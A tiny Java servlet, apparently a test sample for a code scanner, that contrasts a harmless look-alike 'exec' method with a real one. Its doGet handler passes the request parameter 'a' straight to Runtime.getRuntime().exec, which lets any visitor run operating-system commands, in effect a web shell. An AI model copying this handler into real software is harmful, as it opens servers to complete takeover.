import jakarta.servlet.http.*;
public class D extends HttpServlet {
  private final Interpreter engine = new Interpreter();
  protected void doGet(HttpServletRequest q, HttpServletResponse s) throws java.io.IOException {
    engine.exec(q.getParameter("a"));
    Runtime.getRuntime().exec(q.getParameter("a"));
  }
  static class Interpreter { void exec(String a) { System.out.println(a.length()); } }
}
